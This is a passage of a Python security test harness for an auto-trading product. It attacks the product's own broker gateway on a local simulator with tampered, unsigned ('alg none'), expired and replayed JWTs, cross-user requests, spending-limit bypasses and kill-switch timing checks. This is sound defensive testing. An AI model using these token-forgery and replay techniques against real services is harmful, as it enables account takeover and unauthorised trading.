"""Attacks on every trust boundary of the product; each must end in a clean refusal.

:func:`run_attacks` tries each kind several times, varied by a seeded random generator:

- the broker gateway, against the simulator over HTTP: expired, revoked, tampered and foreign temporary
  tokens; one user's token or session aimed at another user's account; actions outside a token's scope;
  spending caps and daily limits pushed past (directly, after a negative amount, through a second gateway
  process); a token replayed after revocation, key rotation and key deletion; one order intent executed
  again (in turn, all at once, from two processes, after a lost answer); the anomaly rules (a burst,
  repeated refusals, an unknown origin, off-hours use), timing the kill switch from the first offending
  request until the key is DISABLED and the simulator refuses its broker token;
- the HTTP API, served by uvicorn on 127.0.0.1: one user's session on another user's keys and strategies;
  forged, tampered, expired and unsigned session tokens; a plain user on operator operations; malformed
  bodies on every POST route; bodies of several MB;
- scan intake: unreadable and oversized content, wrong shapes, bad values, formula and markup text, stale
  and future scans;
- settings: invalid values through the environment; secret-bearing settings given invalid values.

An attack succeeds when the bad outcome happens: an order reaches the simulator that should not, another
user's data is returned, a 5xx or an unhandled exception instead of a refusal, a secret in an error
message, a log record or the database, a crash or a hang, a second order from a replayed request.
"""

from __future__ import annotations

import asyncio
import base64
import dataclasses
import itertools
import json
import logging
import math
import os
import random
import re
import secrets
import threading
import time as walltime
import uuid
from collections import Counter, defaultdict
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator, Sequence
from contextlib import asynccontextmanager, contextmanager, suppress
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import jwt
import sqlalchemy as sa
import uvicorn
from pydantic import SecretStr, ValidationError

from autotrade.access import GatewayAccess
from autotrade.api import schemas as sc
from autotrade.api.app import create_app
from autotrade.api.auth import Principal, SessionTokens
from autotrade.api.service import build_deps
from autotrade.broker import KiwoomClient, TradeType
from autotrade.broker.errors import BrokerError
from autotrade.broker.session import KiwoomSession
from autotrade.broker.tokens import FixedToken
from autotrade.config import Settings
from autotrade.domain.exits import StrategyStatus
from autotrade.domain.krx import KST
from autotrade.domain.models import ApiStatus, Side
from autotrade.runtime import READ, SELL, TRADE, Runtime
from autotrade.secret_files import load_or_create_key
from autotrade.sim.server import RunningSimulator, free_port, running_simulator
from autotrade.store.db import Database
from autotrade.store.migrate import upgrade
from autotrade.store.models import OrderIntentRow, SecurityEvent, ThreeTierStrategy, User, UserApiKey
from autotrade.store.repositories import Users
from autotrade.trading.kiwoom_port import KiwoomAccount
from autotrade.trading.orders import OrderService
from autotrade.trading.scan import (
    MAX_BYTES,
    MAX_ROWS,
    ScanFormatError,
    parse_scan_bytes,
    parse_scan_payload,
    read_scan,
    validate_scan,
)
from autotrade.vault.anomaly import AnomalyDetector, SecurityAlert
from autotrade.vault.gateway import AccessDenied, BrokerGateway
from autotrade.vault.keys import KeyStore
from autotrade.vault.kms import LocalKms
from autotrade.vault.registration import register_user_api
from autotrade.vault.tokens import TemporaryTokens

START = datetime(2026, 11, 24, 10, 0, tzinfo=KST)  # a Tuesday, the market open
CODE, OTHER_CODE = "005930", "000660"
KILL_WAIT = 60.0  # seconds: the specification's bound; past it a kill counts as not done

GATEWAY_KINDS = (
    "gateway_expired_token",
    "gateway_revoked_token",
    "gateway_tampered_token",
    "gateway_cross_user",
    "gateway_scope",
    "gateway_spend_limits",
    "gateway_replay",
    "gateway_kill_switch",
)
API_KINDS = (
    "api_cross_user",
    "api_bad_session_token",
    "api_operator_only",
    "api_malformed_body",
    "api_oversized_body",
)
SCAN_KINDS = ("scan_unreadable", "scan_bad_values", "scan_stale")
SETTINGS_KINDS = ("settings_invalid", "settings_secret_echo")
KINDS = GATEWAY_KINDS + API_KINDS + SCAN_KINDS + SETTINGS_KINDS + ("secret_echo",)


# --- bookkeeping -----------------------------------------------------------------------------------------


@dataclass
class Tally:
    """What was tried, what got through, and every refusal text seen (scanned for secrets at the end)."""

    tried: Counter[str] = field(default_factory=Counter)
    succeeded: Counter[str] = field(default_factory=Counter)
    details: list[str] = field(default_factory=list)
    refusals: defaultdict[str, Counter[str]] = field(default_factory=lambda: defaultdict(Counter))
    kills: defaultdict[str, list[float]] = field(default_factory=lambda: defaultdict(list))
    notes: list[str] = field(default_factory=list)
    accepted: Counter[str] = field(default_factory=Counter)  # API bodies answered 2xx, by kind of damage
    texts: list[str] = field(default_factory=list)
    secrets: set[str] = field(default_factory=set)

    def record(self, kind: str, what: str, bad: str | None, refusal: str | None = None) -> None:
        """One attempt of ``kind``; ``bad`` says what went wrong when the attack got through."""
        self.tried[kind] += 1
        if refusal is not None:
            self.texts.append(refusal)
            self.refusals[kind][re.sub(r"\d{1,3}(?:,\d{3})+|\d{4,}", "N", refusal)[:120]] += 1
        if bad is not None:
            self.succeeded[kind] += 1
            self.details.append(f"{kind}: {what}: {bad}"[:300])


class Crash(Exception):
    """The worker died at this point of the order protocol."""


class _Records(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


@contextmanager
def _captured_logs() -> Iterator[_Records]:
    """Every log record of the product and its servers, at every level."""
    handler = _Records()
    root = logging.getLogger()
    quiet = logging.getLogger("httpcore")  # one record per socket operation, no content
    levels = (root.level, quiet.level)
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    quiet.setLevel(logging.INFO)
    try:
        yield handler
    finally:
        root.removeHandler(handler)
        root.setLevel(levels[0])
        quiet.setLevel(levels[1])


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _claims_of(token: str) -> dict[str, Any]:
    payload = token.split(".")[1]
    claims: dict[str, Any] = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    return claims


def _altered(token: str, **changes: Any) -> str:
    """The token with its claims changed and its signature kept (a value of None drops the claim)."""
    header, _, signature = token.split(".")
    claims = {**_claims_of(token), **changes}
    claims = {k: v for k, v in claims.items() if v is not None}
    return f"{header}.{_b64(json.dumps(claims).encode())}.{signature}"


def _unsigned(claims: dict[str, Any]) -> str:
    return f"{_b64(json.dumps({'alg': 'none', 'typ': 'JWT'}).encode())}.{_b64(json.dumps(claims).encode())}."


# --- the broker gateway ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Victim:
    user: str
    account: str


class GatewayWorld:
    """The vault's gateway over the simulator, with fresh users to attack (a key killed stays killed)."""

    def __init__(self, sim: RunningSimulator, db: Database, work: Path, tally: Tally) -> None:
        self.sim = sim
        self.db = db
        self.tally = tally
        work.mkdir(parents=True, exist_ok=True)
        self.keys = KeyStore(db, LocalKms(work / "gateway-master.key"))
        self.signing_key = os.urandom(32)
        self.tokens = TemporaryTokens(db, self.signing_key)
        self.cache_key = os.urandom(32)
        self.client = KiwoomClient(sim.base_url, timeout=10, rate_per_second=2000, burst=2000)
        self.alerts: list[SecurityAlert] = []
        self.gateways: list[BrokerGateway] = []
        self.gw = self.gateway()
        self._n = itertools.count(1)

    def gateway(self, clock: Callable[[], datetime] | None = None) -> BrokerGateway:
        """A gateway as another process would build it: same database, keys and signing key."""
        gw = BrokerGateway(
            self.db,
            self.keys,
            self.client,
            self.tokens,
            cache_key=self.cache_key,
            alert=self.alerts.append,
            clock=clock or self.sim.engine.read_clock,
        )
        self.gateways.append(gw)
        return gw

    def kill_times(self) -> list[float]:
        """The kill switch's own measure of each kill (disable, revoke, record), in every gateway."""
        return [t for gw in self.gateways for t in getattr(gw, "kill_times", [])]

    def today(self) -> date:
        return self.sim.engine.read_clock().astimezone(KST).date()

    async def victim(self, tag: str, daily_limit: int = 1_000_000, cash: int = 50_000_000) -> Victim:
        n = next(self._n)
        v = Victim(f"{tag}-{n:03d}", f"{5_400_000_000 + n:010d}")
        self.sim.admin.create_account(v.account, v.user, cash)
        key = self.sim.admin.create_appkey(v.account)
        self.tally.secrets.update((key["appkey"], key["secretkey"]))
        await register_user_api(
            self.gw,
            v.user,
            SecretStr(key["appkey"]),
            SecretStr(key["secretkey"]),
            v.account,
            daily_limit=daily_limit,
        )
        return v

    def token(self, v: Victim, actions: frozenset[str] = TRADE, cap: int | None = None) -> str:
        return self.gw.get_temporary_token(v.user, v.account, actions, cap)

    def orders(self, account: str) -> list[dict[str, Any]]:
        """Original orders (not cancellations) the simulator holds for the account."""
        return [o for o in self.sim.admin.account(account)["orders"] if not o["orig_order_no"]]

    def status(self, v: Victim) -> ApiStatus | None:
        with self.db.unit_of_work() as s:
            return s.scalar(
                sa.select(UserApiKey.api_status).where(
                    UserApiKey.user_id == v.user, UserApiKey.account_no == v.account
                )
            )

    async def broker_token(self, v: Victim) -> str:
        token = await self.gw.provider(v.user, v.account).token()
        self.tally.secrets.add(token)
        return token

    async def broker_token_works(self, token: str) -> bool:
        try:
            await KiwoomSession(self.client, "attack-probe", FixedToken(token)).deposit()
        except BrokerError:
            return False
        return True

    async def refused(
        self,
        kind: str,
        what: str,
        attempt: Callable[[], Awaitable[object]],
        *,
        accounts: Sequence[str] = (),
        clean: tuple[type[Exception], ...] = (),
    ) -> str | None:
        """Run one attempt that must be refused (AccessDenied, or one of ``clean``) with no order reaching
        the simulator for any of ``accounts``. Returns the refusal text."""
        before = [len(self.orders(a)) for a in accounts]
        bad = refusal = None
        try:
            await attempt()
            bad = "allowed"
        except AccessDenied as exc:
            refusal = str(exc)
        except clean as exc:
            refusal = f"{type(exc).__name__}: {str(exc)[:100]}"
        except Exception as exc:
            bad = f"unhandled {type(exc).__name__}: {str(exc)[:120]}"
        if [len(self.orders(a)) for a in accounts] != before:
            bad = f"an order reached the broker ({bad or 'and the request was refused'})"
        self.tally.record(kind, what, bad, refusal)
        return refusal

    async def aclose(self) -> None:
        await self.client.aclose()


def _buy(price: int | None = 50_000, qty: int = 1, trade: TradeType = TradeType.LIMIT) -> Any:
    return lambda s: s.buy(CODE, qty, price, trade)


async def expired_tokens(w: GatewayWorld, rng: random.Random) -> None:
    """Tokens presented after their TTL: at session open, and through a session opened before expiry."""
    kind = "gateway_expired_token"
    unopened = [(await w.victim("exp"), rng.choice([READ, TRADE])) for _ in range(rng.randint(3, 5))]
    tokens = [(v, w.token(v, acts)) for v, acts in unopened]
    opened = []
    for _ in range(rng.randint(3, 5)):
        v = await w.victim("exp")
        opened.append((v, await w.gw.session(w.token(v), origin="prefect")))
    # The boundary itself (now == exp) is already expired; a few seconds more for some runs.
    w.sim.admin.advance(w.tokens.ttl.total_seconds() + rng.choice([0, 1, 7, 42]))
    for v, token in tokens:
        await w.refused(
            kind,
            "session opened after expiry",
            lambda t=token: w.gw.session(t, origin="prefect"),
            accounts=[v.account],
        )
    actions = {
        "deposit": lambda s: s.deposit(),
        "buy": _buy(),
        "sell": lambda s: s.sell(CODE, 1, 50_000, TradeType.LIMIT),
        "cancel": lambda s: s.cancel("0000001", CODE),
        "market buy": _buy(None, 1, TradeType.MARKET),
    }
    for v, session in opened:
        name = rng.choice(sorted(actions))
        await w.refused(
            kind,
            f"{name} through a session opened before expiry",
            lambda s=session, a=actions[name]: a(s),
            accounts=[v.account],
        )


async def revoked_tokens(w: GatewayWorld, rng: random.Random) -> None:
    """Revoked tokens (by token or by id), before a session is opened and on an open session."""
    kind = "gateway_revoked_token"
    for i in range(rng.randint(4, 6)):
        v = await w.victim("rev")
        token = w.token(v)
        session = await w.gw.session(token, origin="prefect") if i % 2 else None
        w.tokens.revoke(token if rng.random() < 0.5 else _claims_of(token)["jti"], reason="attack")
        if session is None:
            await w.refused(
                kind,
                "session with a revoked token",
                lambda t=token: w.gw.session(t, origin="prefect"),
                accounts=[v.account],
            )
        else:
            await w.refused(
                kind,
                "buy on a session whose token was revoked",
                lambda s=session: _buy()(s),
                accounts=[v.account],
            )


async def tampered_tokens(w: GatewayWorld, rng: random.Random) -> None:
    """Tokens with altered claims, other keys, no signature, other token types, or no token at all."""
    kind = "gateway_tampered_token"
    v, other = await w.victim("tam"), await w.victim("tam")
    token = w.token(v, READ, 100_000)
    claims = _claims_of(token)
    to_other = {**claims, "sub": other.user, "acct": other.account, "act": sorted(TRADE)}
    variants: dict[str, Callable[[], str]] = {
        "account altered": lambda: _altered(token, acct=other.account),
        "user altered": lambda: _altered(token, sub=other.user),
        "user and account altered": lambda: _altered(token, sub=other.user, acct=other.account),
        "spending cap raised": lambda: _altered(token, cap=10**12),
        "spending cap dropped": lambda: _altered(token, cap=None),
        "actions widened": lambda: _altered(token, act=[*sorted(TRADE), "admin"]),
        "lifetime extended": lambda: _altered(token, exp=claims["exp"] + 86_400),
        "new token id": lambda: _altered(token, jti=uuid.uuid4().hex),
        "signed with another key": lambda: jwt.encode(to_other, os.urandom(32), algorithm="HS256"),
        "alg none": lambda: _unsigned(to_other),
        "HS512 with another key": lambda: jwt.encode(to_other, os.urandom(64), algorithm="HS512"),
        "API session token": lambda: SessionTokens(w.signing_key).issue(Principal(other.user, "operator")),
        "empty": lambda: "",
        "three dots": lambda: "a.b.c",
        "random text": lambda: secrets.token_urlsafe(rng.randint(10, 400)),
        "huge": lambda: "e" * 100_000,
        "not ASCII": lambda: "토큰.토큰.토큰",
    }
    names = sorted(variants)
    rng.shuffle(names)
    for name in names + rng.sample(names, 4):
        forged = variants[name]()
        await w.refused(kind, name, lambda t=forged: _session_buy(w, t), accounts=[v.account, other.account])


async def cross_user(w: GatewayWorld, rng: random.Random) -> None:
    """One user's token for another's account, and one user's session acting on another's orders and data."""
    kind = "gateway_cross_user"
    for _ in range(rng.randint(2, 3)):
        a = await w.victim("xa")
        b = await w.victim("xb", cash=77_700_000)
        for user, account, what in (
            (a.user, b.account, "A's user, B's account"),
            (b.user, a.account, "B's user, A's account"),
            ("ghost", b.account, "unknown user, B's account"),
        ):
            token = w.gw.get_temporary_token(user, account, rng.choice([READ, TRADE]))
            await w.refused(
                kind, what, lambda t=token: w.gw.session(t, origin="prefect"), accounts=[b.account]
            )
        b_session = await w.gw.session(w.token(b), origin="prefect")
        b_order = (await b_session.buy(CODE, 1, 40_000, TradeType.LIMIT)).order_no
        a_session = await w.gw.session(w.token(a), origin="prefect")
        await w.refused(
            kind,
            "A cancels B's order",
            lambda s=a_session, o=b_order: s.cancel(o, CODE),
            accounts=[b.account],
            clean=(BrokerError,),
        )
        still = [o for o in w.sim.admin.account(b.account)["orders"] if o["order_no"] == b_order]
        if not still or still[0]["status"] != "OPEN":
            w.tally.record(kind, "A cancels B's order", f"B's order is now {still}")
        # A's own views never show B's money or orders.
        deposit = await a_session.deposit()
        unfilled = await a_session.unfilled_orders()
        leaked = deposit.cash == 77_700_000 or any(o.order_no == b_order for o in unfilled)
        w.tally.record(kind, "A reads its account", "B's data returned" if leaked else None)


async def scope(w: GatewayWorld, rng: random.Random) -> None:
    """Actions the token does not allow: a read token trading, a sell token buying, no actions reading."""
    kind = "gateway_scope"
    cases: list[tuple[str, frozenset[str], Callable[[Any], Awaitable[object]]]] = [
        ("read token buys", READ, _buy()),
        ("read token buys at market", READ, _buy(None, 1, TradeType.MARKET)),
        ("read token sells", READ, lambda s: s.sell(CODE, 1, 50_000, TradeType.LIMIT)),
        ("read token cancels", READ, lambda s: s.cancel("0000001", CODE)),
        ("sell token buys", SELL, _buy()),
        ("token without actions reads", frozenset(), lambda s: s.deposit()),
        ("token without actions buys", frozenset(), _buy()),
    ]
    picks = cases + rng.sample(cases, 3)
    rng.shuffle(picks)
    v = await w.victim("scope")
    for i, (what, actions, act) in enumerate(picks):
        if i % 3 == 0 and i:  # a few refusals per key: the repeated-refusal rule would disable it otherwise
            v = await w.victim("scope")
        session = await w.gw.session(w.token(v, actions), origin="prefect")
        await w.refused(kind, what, lambda s=session, a=act: a(s), accounts=[v.account])


async def _kill_time(w: GatewayWorld, v: Victim, broker_token: str, t0: float, rule: str) -> str | None:
    """Wait (up to a minute) for the key to be DISABLED and its broker token refused; record the time. Then
    the key must refuse a buy whatever token asks."""
    while True:
        if w.status(v) is ApiStatus.DISABLED and not await w.broker_token_works(broker_token):
            w.tally.kills[rule].append(walltime.monotonic() - t0)
            break
        if walltime.monotonic() - t0 > KILL_WAIT:
            w.tally.kills[rule].append(math.inf)
            return f"key {w.status(v)} and broker token alive {KILL_WAIT:g}s after the {rule} trigger"
        await asyncio.sleep(0.05)
    with w.db.unit_of_work() as s:
        events = s.scalars(
            sa.select(SecurityEvent.rule).where(
                SecurityEvent.user_id == v.user, SecurityEvent.account_no == v.account
            )
        ).all()
    if rule not in events:
        return f"no {rule} security event recorded (found {events})"
    # A killed key keeps a sell-only scope for the product's positions: a new token may read, never buy.
    try:
        session = await w.gw.session(w.token(v, TRADE), origin="prefect")
        await session.buy(CODE, 1, 50_000, TradeType.LIMIT)
    except AccessDenied:
        return None
    return "a new token buys on the killed key"


async def spend_limits(w: GatewayWorld, rng: random.Random) -> None:
    """The token's cap and the account's daily limit: crossed directly, credited first by a negative amount,
    spread over tokens and over gateway processes."""
    kind = "gateway_spend_limits"
    for _ in range(rng.randint(1, 2)):
        cap = rng.choice([100_000, 150_000, 200_000])
        v = await w.victim("cap")
        broker_token = await w.broker_token(v)
        session = await w.gw.session(w.token(v, TRADE, cap), origin="prefect")
        await session.buy(CODE, cap // 50_000, 50_000, TradeType.LIMIT)
        t0 = walltime.monotonic()
        await w.refused(kind, "buy past the token's cap", lambda s=session: _buy()(s), accounts=[v.account])
        w.tally.record(
            kind, "cap breach kills the key", await _kill_time(w, v, broker_token, t0, "limit_breach")
        )

    for _ in range(rng.randint(1, 2)):
        v = await w.victim("day", daily_limit=1_000_000)
        broker_token = await w.broker_token(v)
        session = await w.gw.session(w.token(v), origin="prefect")
        await session.buy(CODE, 12, 50_000, TradeType.LIMIT)
        t0 = walltime.monotonic()
        await w.refused(
            kind, "buy past the daily limit", lambda s=session: _buy(50_000, 10)(s), accounts=[v.account]
        )
        w.tally.record(
            kind, "daily-limit breach kills the key", await _kill_time(w, v, broker_token, t0, "limit_breach")
        )

    v = await w.victim("day", daily_limit=1_000_000)
    first = await w.gw.session(w.token(v), origin="prefect")
    await first.buy(CODE, 12, 50_000, TradeType.LIMIT)
    second = await w.gw.session(w.token(v), origin="prefect")
    await w.refused(
        kind, "daily limit spread over two tokens", lambda: _buy(50_000, 10)(second), accounts=[v.account]
    )
    v = await w.victim("day", daily_limit=1_000_000)
    first = await w.gw.session(w.token(v), origin="prefect")
    await first.buy(CODE, 12, 50_000, TradeType.LIMIT)
    other = await w.gateway().session(w.token(v), origin="prefect")
    await w.refused(
        kind,
        "daily limit spread over two gateway processes",
        lambda: _buy(50_000, 10)(other),
        accounts=[v.account],
    )
    v = await w.victim("day", daily_limit=1_000_000)
    market = await w.gw.session(w.token(v), origin="prefect")
    await w.refused(
        kind,
        "market buy past the daily limit",
        lambda: _buy(None, 100, TradeType.MARKET)(market),
        accounts=[v.account],
    )

    # The same token through a second gateway process: its cap is the token's, not the process's.
    v = await w.victim("cap2")
    token = w.token(v, TRADE, 100_000)
    await (await w.gw.session(token, origin="prefect")).buy(CODE, 2, 50_000, TradeType.LIMIT)
    again = await w.gateway().session(token, origin="prefect")
    await w.refused(
        kind,
        "token's cap spent again through a second gateway process",
        lambda: _buy(50_000, 2)(again),
        accounts=[v.account],
    )

    # A request for a negative (or zero) amount must not lower what was spent.
    credits: list[tuple[str, Callable[[Any], Awaitable[object]]]] = [
        ("negative quantity", lambda s: s.buy(CODE, -rng.randint(10, 40), 50_000, TradeType.LIMIT)),
        ("negative price", lambda s: s.buy(CODE, 10, -rng.choice([50_000, 100_000]), TradeType.LIMIT)),
        ("zero quantity", lambda s: s.buy(CODE, 0, 50_000, TradeType.LIMIT)),
        ("market order priced at 1 won", lambda s: s.buy(CODE, 5_000, 1, TradeType.MARKET)),
    ]
    for what, credit in credits + rng.sample(credits, 2):
        token_cap = rng.choice([None, 500_000])
        v = await w.victim("neg", daily_limit=1_000_000)
        session = await w.gw.session(w.token(v, TRADE, token_cap), origin="prefect")
        await w.refused(
            kind, what, lambda s=session, c=credit: c(s), accounts=[v.account], clean=(ValueError,)
        )
        qty = 30 if token_cap is None else 20  # 1,500,000 past the limit, or 1,000,000 past the cap
        await w.refused(
            kind,
            f"over-limit buy after a {what} (cap {token_cap})",
            lambda s=session, q=qty: _buy(50_000, q)(s),
            accounts=[v.account],
        )


async def replays(w: GatewayWorld, rng: random.Random) -> None:
    """A token replayed after revocation, key deletion and key rotation; one order intent executed again."""
    kind = "gateway_replay"
    for _ in range(rng.randint(1, 2)):
        v = await w.victim("rep")
        token = w.token(v)
        session = await w.gw.session(token, origin="prefect")
        await session.deposit()
        w.tokens.revoke(token, reason="attack")
        await w.refused(
            kind,
            "token replayed after revocation",
            lambda t=token: w.gw.session(t, origin="prefect"),
            accounts=[v.account],
        )
        await w.refused(
            kind, "open session replayed after revocation", lambda s=session: _buy()(s), accounts=[v.account]
        )

    for _ in range(rng.randint(1, 2)):  # deletion, as the API does it: revoke the broker token, shred the key
        v = await w.victim("del")
        old_broker = await w.broker_token(v)
        token = w.token(v)
        session = await w.gw.session(token, origin="prefect")
        await w.gw.provider(v.user, v.account).revoke()
        w.keys.destroy(v.user, v.account)
        await w.refused(
            kind,
            "token replayed after key deletion",
            lambda t=token: w.gw.session(t, origin="prefect"),
            accounts=[v.account],
        )
        await w.refused(
            kind,
            "open session replayed after key deletion",
            lambda s=session: _buy()(s),
            accounts=[v.account],
        )
        alive = await w.broker_token_works(old_broker)
        w.tally.record(
            kind, "broker token after key deletion", "still accepted by the broker" if alive else None
        )

    for _ in range(rng.randint(1, 2)):  # rotation, as the API does it: revoke, then register the new key
        v = await w.victim("rot")
        old_broker = await w.broker_token(v)
        token = w.token(v)
        session = await w.gw.session(token, origin="prefect")
        await w.gw.provider(v.user, v.account).revoke()
        key = w.sim.admin.create_appkey(v.account)
        w.tally.secrets.update((key["appkey"], key["secretkey"]))
        await register_user_api(
            w.gw,
            v.user,
            SecretStr(key["appkey"]),
            SecretStr(key["secretkey"]),
            v.account,
            daily_limit=1_000_000,
        )
        alive = await w.broker_token_works(old_broker)
        w.tally.record(
            kind, "broker token after key rotation", "still accepted by the broker" if alive else None
        )
        await w.refused(
            kind,
            "token issued before a key rotation",
            lambda t=token: _session_buy(w, t),
            accounts=[v.account],
        )
        await w.refused(
            kind, "session opened before a key rotation", lambda s=session: _buy()(s), accounts=[v.account]
        )

    await _intent_replays(w, rng)


async def _session_buy(w: GatewayWorld, token: str) -> None:
    session = await w.gw.session(token, origin="prefect")
    await session.buy(CODE, 1, 50_000, TradeType.LIMIT)


def _new_intent(w: GatewayWorld, v: Victim, price: int) -> int:
    with w.db.unit_of_work() as s:
        row = OrderIntentRow(
            key=f"attack:{v.account}:{price}:{uuid.uuid4().hex[:8]}",
            trading_day=w.today(),
            user_id=v.user,
            account_no=v.account,
            code=CODE,
            side=Side.BUY,
            purpose="BUY",
            quantity=1,
            price=price,
            trade_type="LIMIT",
        )
        s.add(row)
        s.flush()
        return row.id


async def _intent_replays(w: GatewayWorld, rng: random.Random) -> None:
    """One order intent (a limit buy below the market) executed again: after it was sent, by several callers
    at once, by two processes racing, and after the answer was lost; the broker must hold one order."""
    kind = "gateway_replay"
    v = await w.victim("intent", daily_limit=10_000_000)
    clock = w.sim.engine.read_clock
    prices = iter(range(40_000, 45_000, 50))  # every intent its own price: its orders are countable

    async def broker() -> KiwoomAccount:
        return KiwoomAccount(await w.gw.session(w.token(v), origin="prefect"), clock=clock)

    def placed(price: int) -> int:
        return len([o for o in w.orders(v.account) if o["price"] == price])

    async def check(what: str, price: int, run: Callable[[], Awaitable[object]]) -> None:
        bad = None
        try:
            await run()
        except Exception as exc:
            bad = f"unhandled {type(exc).__name__}: {str(exc)[:120]}"
        n = placed(price)
        if n != 1:
            bad = f"{n} broker orders for one intent" + (f" ({bad})" if bad else "")
        w.tally.record(kind, what, bad)

    for _ in range(rng.randint(2, 3)):
        price = next(prices)
        intent = _new_intent(w, v, price)
        service = OrderService(w.db, clock)

        async def in_turn(i: int = intent, s: OrderService = service) -> None:
            for _ in range(rng.randint(2, 4)):
                await s.execute(i, await broker())

        await check("intent executed again after it was sent", price, in_turn)

    for _ in range(rng.randint(2, 3)):
        price = next(prices)
        intent = _new_intent(w, v, price)

        async def at_once(i: int = intent) -> None:
            b = await broker()
            await asyncio.gather(*(OrderService(w.db, clock).execute(i, b) for _ in range(rng.randint(2, 5))))

        await check("intent executed by several callers at once", price, at_once)

    for _ in range(rng.randint(2, 3)):
        price = next(prices)
        intent = _new_intent(w, v, price)

        async def lost_answer(i: int = intent) -> None:
            def crash(point: str) -> None:
                if point == "after_broker_call":
                    raise Crash(point)

            with suppress(Crash):
                await OrderService(w.db, clock, crash_hook=crash).execute(i, await broker())
            for _ in range(rng.randint(1, 3)):  # a new process, the outcome found at the broker
                await OrderService(w.db, clock).execute(i, await broker())

        await check("intent executed again after its answer was lost", price, lost_answer)

    for _ in range(rng.randint(2, 3)):
        price = next(prices)
        intent = _new_intent(w, v, price)

        async def two_processes(i: int = intent) -> None:
            await asyncio.to_thread(_race, w, v, i)

        await check("intent executed by two processes at the same moment", price, two_processes)


def _race(w: GatewayWorld, v: Victim, intent: int) -> None:
    """Two workers (own event loop, HTTP client, gateway and order service each) released together just
    before they try to send the same intent."""
    barrier = threading.Barrier(2)
    errors: list[BaseException] = []

    def together(point: str) -> None:
        if point == "before_submitting":
            with suppress(threading.BrokenBarrierError):
                barrier.wait(10)

    async def worker() -> None:
        client = KiwoomClient(w.sim.base_url, timeout=10, rate_per_second=2000, burst=2000)
        try:
            gw = BrokerGateway(
                w.db, w.keys, client, w.tokens, cache_key=w.cache_key, clock=w.sim.engine.read_clock
            )
            session = await gw.session(gw.get_temporary_token(v.user, v.account, TRADE), origin="prefect")
            service = OrderService(w.db, w.sim.engine.read_clock, crash_hook=together)
            await service.execute(intent, KiwoomAccount(session, clock=w.sim.engine.read_clock))
        finally:
            await client.aclose()

    def run() -> None:
        try:
            asyncio.run(worker())
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=run, name=f"attack-worker-{n}", daemon=True) for n in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    if any(t.is_alive() for t in threads):
        raise TimeoutError("a worker did not finish in 60 s")
    if errors:
        raise errors[0]


async def kill_switch(w: GatewayWorld, rng: random.Random) -> None:
    """Each security rule on a fresh key with the product's thresholds. A burst and repeated refusals (a
    leaked token at work) disable the key and revoke its broker token, timed from the first request over the
    threshold. A buy at night or from an unknown origin is held back: refused, the operator alerted, the key
    left ACTIVE; a read then is normal use (the strategies view at 20:00) and goes through."""
    kind = "gateway_kill_switch"
    rules = AnomalyDetector().settings
    for trigger in ["burst", "repeated_failures", "unknown_origin", "off_hours"] * 2:
        v = await w.victim("kill")
        broker_token = await w.broker_token(v)
        gw = w.gw
        if trigger == "off_hours":
            late = rng.choice([(6, 10), (19, 45), (23, 30)])
            gw = w.gateway(clock=lambda hm=late: w.sim.engine.read_clock().replace(hour=hm[0], minute=hm[1]))
        if trigger in ("unknown_origin", "off_hours"):
            origin = rng.choice(["203.0.113.7", "curl", "", "Prefect", "prefect "])
            origin = origin if trigger == "unknown_origin" else "prefect"
            problem = await _held_back(w, gw, v, trigger, origin)
            w.tally.record(kind, trigger, problem)
            continue
        token = gw.get_temporary_token(v.user, v.account, READ)
        t0: float | None = None
        denied: str | None = None
        try:
            if trigger == "burst":
                session = await gw.session(token, origin="prefect")  # request 1 of the window
                for n in range(2, 3 * rules.burst_requests):
                    if n == rules.burst_requests + 1:
                        t0 = walltime.monotonic()
                    await session.deposit()
            else:
                session = await gw.session(token, origin="prefect")
                for n in range(1, 3 * rules.failed_checks):
                    if n == rules.failed_checks:
                        t0 = walltime.monotonic()
                    with suppress(AccessDenied):
                        await session.buy(CODE, 1, 50_000, TradeType.LIMIT)
                    if w.status(v) is not ApiStatus.ACTIVE:
                        break
        except AccessDenied as exc:
            denied = str(exc)
        if denied is not None:
            w.tally.texts.append(denied)
            w.tally.refusals[kind][denied] += 1
        problem = await _kill_time(w, v, broker_token, t0 or walltime.monotonic(), trigger)
        w.tally.record(kind, trigger, problem or (None if _alerted(w, v, trigger) else "no alert sent"))


def _alerted(w: GatewayWorld, v: Victim, rule: str) -> bool:
    return any((a.user_id, a.account_no, a.rule) == (v.user, v.account, rule) for a in w.alerts)


async def _held_back(w: GatewayWorld, gw: BrokerGateway, v: Victim, rule: str, origin: str) -> str | None:
    """A read goes through, a buy is refused as held back, the key stays ACTIVE and the operator hears of
    it. Returns what went wrong, if anything."""
    session = await gw.session(gw.get_temporary_token(v.user, v.account, TRADE), origin=origin)
    await session.deposit()
    try:
        await session.buy(CODE, 1, 50_000, TradeType.LIMIT)
    except AccessDenied as exc:
        w.tally.texts.append(str(exc))
        w.tally.refusals["gateway_kill_switch"][str(exc)] += 1
    else:
        return f"a buy under the {rule} rule reached the broker"
    if w.status(v) is not ApiStatus.ACTIVE:
        return f"the {rule} rule left the key {w.status(v)}"
    return None if _alerted(w, v, rule) else "no alert sent"


async def gateway_attacks(w: GatewayWorld, rng: random.Random, progress: Callable[[str], None]) -> None:
    for name, attack in [
        ("expired tokens", expired_tokens),
        ("revoked tokens", revoked_tokens),
        ("tampered tokens", tampered_tokens),
        ("cross-user", cross_user),
        ("scope", scope),
        ("spending limits", spend_limits),
        ("replays", replays),
        ("kill switch", kill_switch),
    ]:
        started = walltime.monotonic()
        await attack(w, rng)
        progress(f"gateway {name}: {walltime.monotonic() - started:.1f}s")


# --- the HTTP API ----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class ApiUser:
    email: str
    user_id: str
    token: str
    account: str | None

    @property
    def auth(self) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.token}"}


@asynccontextmanager
